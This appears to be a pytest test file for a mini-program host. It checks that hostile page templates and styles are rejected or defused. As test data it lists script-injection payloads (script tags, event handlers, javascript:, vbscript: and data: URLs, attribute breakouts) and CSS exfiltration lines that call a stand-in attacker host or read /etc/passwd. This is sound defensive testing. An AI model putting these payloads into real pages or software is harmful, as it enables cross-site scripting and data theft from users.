"""Hostile templates and styles: script and URL injection through WXML, and CSS exfiltration attempts
through WXSS and bound styles. Pages are compiled the way the hub compiles them (``catalog.compile_page``
on an installed bundle); what only the browser can tell is checked in the real renderer under WebKit.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from importlib import resources
from pathlib import Path
from typing import Any

import pytest
import quickjs

from tests.e2e.renderer_harness import RendererFrame, shell_window
from vehicle_host.bundles import catalog
from vehicle_host.errors import BundleError

PAGE = "pages/index/index"


def compile_app(
    root: Path, wxml: str, wxss: str = "", files: dict[str, str] | None = None
) -> catalog.CompiledPage:
    """Install a one-page app under ``root`` and compile its page as the hub does at launch."""
    app = root / "apps" / "t"
    (app / "pages" / "index").mkdir(parents=True, exist_ok=True)
    manifest = {
        "id": "org.test.hostile.tpl",
        "name": "tpl",
        "version": "1.0.0",
        "runtime": {"min": 1, "max": 1},
    }
    (app / "app.json").write_text(json.dumps({"pages": [PAGE], "vehicle": manifest}))
    (app / "app.js").write_text("App({});")
    (app / f"{PAGE}.js").write_text("Page({});")
    (app / f"{PAGE}.wxml").write_text(wxml)
    (app / f"{PAGE}.wxss").write_text(wxss)
    for name, text in (files or {}).items():
        (app / name).parent.mkdir(parents=True, exist_ok=True)
        (app / name).write_text(text)
    apps, broken = catalog.scan(root / "apps")
    assert not broken, broken
    return catalog.compile_page(apps[0], PAGE)


def refusal(tmp_path: Path, wxml: str = "<view/>", wxss: str = "", **files: str) -> str:
    with pytest.raises(BundleError) as caught:  # TemplateError is a BundleError
        compile_app(tmp_path, wxml, wxss, {k.replace("__", "/"): v for k, v in files.items()})
    return str(caught.value)


# ------------------------------------------------------------------------------- WXML written in the page
@pytest.mark.parametrize(
    ("wxml", "reason"),
    [
        ("<view>\n<script>parent.postMessage(1,'*')</script></view>", "<script> is not allowed"),
        ("<view><SCRIPT src='x.js'></SCRIPT></view>", "invalid tag name 'SCRIPT'"),
        ('<view onclick="alert(1)">x</view>', "'onclick' is not allowed"),
        ("<image src='x' OnError='alert(1)'/>", "is not allowed"),
        ("<image src='&#106;avascript:alert(1)'/>", "javascript: URLs are not allowed"),
        ("<navigator url='java&#x09;script:alert(1)'/>", "javascript: URLs are not allowed"),
        ("<navigator url='vbscript:msgbox(1)'/>", "vbscript: URLs are not allowed"),
        ("<image src='data:text/html,<script>alert(1)</script>'/>", "data:image/"),
        ("<navigator url='data:text/html;base64,PHNjcmlwdD4='/>", "data: URLs are not allowed"),
        ("<navigator url='https://evil.example/phish'/>", "https: URLs are not allowed"),
        ("<navigator url='//evil.example/phish'/>", "must be a page path of this app"),
        ("<image src='https://evil.example/track.png'/>", "network images are not available"),
        ("<view style=\"background: image-set('https://evil.example/?leak' 1x)\"/>", "data:image/"),
        ("<view style='background: -webkit-image-set(var(--u) 1x)'/>", "no network URLs, var()"),
        ("<web-view src='https://evil.example'/>", "not supported"),
        ("<iframe srcdoc='<script>alert(1)</script>'/>", "<iframe> is not allowed"),
    ],
    ids=lambda v: re.sub(r"\W+", "-", v)[:40],
)
def test_script_and_url_injection_written_in_wxml_is_a_compile_error(
    tmp_path: Path, wxml: str, reason: str
) -> None:
    message = refusal(tmp_path, wxml)
    assert reason in message
    assert message.startswith(f"{PAGE}.wxml:")  # the file (and line:column) the author must fix


def test_attribute_values_cannot_break_out_into_new_attributes(tmp_path: Path) -> None:
    page = compile_app(
        tmp_path, '<view class=\'a" onclick="alert(1)\' data-x="\'><script>x</script>">t</view>'
    )
    view = page.tree["children"][0]
    assert set(view["attrs"]) == {"class", "data-x"}  # the quote is text inside the value, no new attribute
    assert view["attrs"]["class"] == ['a" onclick="alert(1)']
    assert view["events"] == {}


# ------------------------------------------------------------------------------------- WXSS exfiltration
@pytest.mark.parametrize(
    ("wxss", "reason"),
    [
        (".a { background: url(https://evil.example/x.png) }", "only use data: URLs"),
        ("input[value^='a'] { background-image: url('//evil.example/?a') }", "only use data: URLs"),
        (".a { background: u\\72l(https://evil.example/x) }", "only use data: URLs"),
        ("@font-face { font-family: x; src: url(https://evil.example/f.woff) }", "only use data: URLs"),
        ("@import url(https://evil.example/x.css);", "is not a path inside the bundle"),
        ('@import "https://evil.example/x.wxss";', "is not a path inside the bundle"),
        ("@import '../../../../etc/passwd';", "outside"),
        (".a { width: expression(fetch('//evil.example')) }", "expression() is not allowed"),
        (".a { --u: 'https://evil.example/x'; background: image-set(var(--u) 1x) }", "var() is not allowed"),
        (".a { background: -webkit-cross-fade(attr(data-u), url(data:image/png,x), 50%) }", "attr() is not"),
        ("@namespace url(https://evil.example/ns);", "only use data: URLs"),
        (".a { background: image-set('https://evil.example/x' 1x) }", "data: URLs"),
    ],
    ids=lambda v: re.sub(r"\W+", "-", v)[:40],
)
def test_css_exfiltration_attempts_are_compile_errors(tmp_path: Path, wxss: str, reason: str) -> None:
    message = refusal(tmp_path, wxss=wxss)
    assert reason in message, message
    assert ".wxss" in message


def test_styles_that_load_nothing_still_compile(tmp_path: Path) -> None:
    # the refusals above are precise: local images, variables outside image functions and imports work
    wxss = (
        '@import "common.wxss";\n.a { --c: red; color: var(--c); '
        "background: image-set('data:image/png;base64,AAAA' 1x) }\n"
        "input[value^='a'] { color: blue }"
    )
    page = compile_app(
        tmp_path, "<view class='a' style='color: var(--c)'/>", wxss, {"pages/index/common.wxss": ".b{}"}
    )
    assert "var(--c)" in page.css and "data:image/png" in page.css and ".b{}" in page.css


# -------------------------------------------------------------------------------- bound data at run time
@pytest.fixture(scope="module")
def renderer_js() -> quickjs.Context:
    ui = resources.files("vehicle_host.shell").joinpath("ui")
    ctx = quickjs.Context()
    ctx.eval(
        f"var api = (function () {{ 'use strict';\n{ui.joinpath('renderer-core.js').read_text()}\n"
        "return { safeStyle: safeStyle, safeImageSrc: safeImageSrc, safePageUrl: safePageUrl }; })();"
    )
    return ctx


@pytest.mark.parametrize(
    "style",
    [
        "background-image: image-set('https://evil.example/?secret' 1x)",
        'background: -webkit-image-set("//evil.example/a.png" 1x)',
        "background: cross-fade('https://evil.example/a', 'data:image/png,x', 50%)",
        "background: image-set(var(--leak) 1x)",
        "content: 'x'; background: element(#secret)",
    ],
)
def test_bound_styles_that_would_load_from_outside_are_dropped_by_the_renderer(
    renderer_js: quickjs.Context, style: str
) -> None:
    assert renderer_js.eval(f"api.safeStyle({json.dumps(style)})") == ""


# --------------------------------------------------------------------------------- the real renderer
@pytest.fixture(scope="module")
def frame() -> Iterator[RendererFrame]:
    with shell_window() as driver:
        rt = RendererFrame(driver)
        rt.load()
        yield rt


@pytest.mark.e2e
def test_hostile_data_bound_into_a_page_never_runs_or_loads_in_webkit(frame: RendererFrame) -> None:
    wxml = (
        "<view id='v' class='{{cls}}' data-x='{{cls}}' style='{{style}}'>{{html}}</view>"
        "<image id='i' src='{{img}}'/><navigator id='n' url='{{url}}'>go</navigator>"
        "<input id='in' placeholder='{{cls}}' value='{{cls}}'/>"
        "<rich-text nodes='{{nodes}}'/>"
    )
    data: dict[str, Any] = {
        "cls": "a\" onmouseover=\"parent.postMessage('pwned-attr','*')\" x=\"",
        "style": "background-image: image-set('http://127.0.0.1:9/leak' 1x)",
        "html": "</view><script>parent.postMessage('pwned-html','*')</script>",
        "img": "data:text/html,<script>parent.postMessage('pwned-img','*')</script>",
        "url": "vbscript:msgbox(1)",
        "nodes": [
            {
                "name": "a",
                "attrs": {"href": "data:text/html,<script>parent.postMessage('pwned-a','*')</script>"},
                "children": [{"type": "text", "text": "link"}],
            }
        ],
    }
    frame.take()
    frame.render(wxml, data)
    frame.click("n")
    frame.click("v")
    seen = frame.events(1.0)
    page = frame.inspect()
    markup = " ".join(re.findall(r"<[^>]*>", page["html"].lower()))
    for needle in ("<script", 'onmouseover="parent', "vbscript:", "data:text/html", "image-set", "href"):
        assert needle not in markup, needle
    assert "</view><script>" in page["text"]  # shown as text
    assert not [m for m in seen if m.get("type") == "navigate"]  # the vbscript: target is no page
    assert not [m for m in seen if m.get("type") == "csp" or "pwned" in json.dumps(m)]  # nothing even tried
    nodes = {n["id"]: n for n in page["nodes"] if n["id"]}
    assert set(nodes) >= {"v", "i", "n", "in"}
